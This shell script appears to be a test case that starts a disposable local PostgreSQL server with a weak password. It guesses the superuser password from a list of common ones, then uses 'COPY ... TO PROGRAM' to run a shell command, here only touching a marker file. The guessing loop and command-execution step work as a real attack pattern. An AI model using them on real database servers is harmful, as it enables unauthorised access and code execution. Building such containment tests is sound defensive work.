#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/pg && chown postgres /tmp/pg; b=$(ls -d /usr/lib/postgresql/*/bin)
su postgres -c "echo summer24 >/tmp/pw && $b/initdb -D /tmp/pg/d -A scram-sha-256 --pwfile /tmp/pw >/dev/null && $b/pg_ctl -D /tmp/pg/d -o '-p 5499 -k /tmp' -l /tmp/pg/l -w start >/dev/null"
for w in postgres password admin root 123456 qwerty letmein welcome changeme test master secret dragon monkey shadow summer summer23 summer24; do PGPASSWORD=$w psql -h 127.0.0.1 -p 5499 -U postgres -c "copy (select 1) to program 'touch /tmp/reached'" >/dev/null 2>&1 && break; done
test -e /tmp/reached; su postgres -c "$b/pg_ctl -D /tmp/pg/d -m immediate stop >/dev/null"
took_place
